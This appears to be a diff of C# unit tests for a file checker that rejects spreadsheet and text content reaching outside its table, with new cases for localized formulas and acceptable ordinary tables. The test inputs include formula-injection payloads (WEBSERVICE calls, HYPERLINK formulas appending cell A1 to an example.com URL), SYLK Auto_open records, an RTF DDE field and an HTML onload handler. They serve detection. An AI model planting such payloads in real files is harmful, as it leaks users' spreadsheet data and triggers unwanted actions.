@@ -32,6 +32,11 @@ public sealed class TextFileCheckTests
     [InlineData("a\n='\\\\host\\s\\[b.xlsx]S'!A1\n")]
     [InlineData("a\n=\\\\host\\s\\[b.xlsx]S!A1\n")]
     [InlineData("a\n='http://example.com/[b.xlsx]S'!A1\n")]
+    [InlineData("a;=ВЕБСЛУЖБА(\"http://example.com\")\n")]
+    [InlineData("a;=WEBHİZMETİ(\"http://example.com\")\n")]
+    [InlineData("a;=WEBDIENST(\"http://example.com\")\n")]
+    [InlineData("a;=ГИПЕРССЫЛКА(\"http://example.com/?\"&A1)\n")]
+    [InlineData("a;=KÖPRÜ(\"http://example.com/?\"&A1)\n")]
     [InlineData("ID;P\nO;E\nNN;NAuto_open;ER1C1\nE\n")]
     [InlineData("ID;PWXL;N;E\n")]
     public void A_cell_that_reaches_out_of_its_table_is_refused(string text)
@@ -52,6 +57,8 @@ public sealed class TextFileCheckTests
     [InlineData("a\n=A1+B1\n=SUM(A1:B2)\n=IF(A1>0,\"a|b\",\"x!\")\n")]
     [InlineData("a\n- call (evening)\n- image (1)\n@team call (Baku)\n")]
     [InlineData("a\nsee \\\\host\\plans, https://example.com\n- https://example.com\n")]
+    [InlineData("a\n- image (A4)\n\"- Image (A3, 300 dpi)\"\n- Register (B2 visa)\n")]
+    [InlineData("-5|Əla!Çox\n")]
     [InlineData("ID;P\n1;A\n")]
     public void An_ordinary_table_is_taken(string text)
     {
@@ -65,6 +72,7 @@ public sealed class TextFileCheckTests
     [InlineData("装机容量 <body weight>", null)]
     [InlineData("<body weight> is written", null)]
     [InlineData("a < b, <html5>", null)]
+    [InlineData("{\\rtf1{\\field DDE}}", FileRefusal.Active)]
     [InlineData("<body>", FileRefusal.Active)]
     [InlineData("\n <body onload=\"alert(1)\">", FileRefusal.Active)]
     [InlineData("<?xml version='1.0'?>", FileRefusal.Active)]
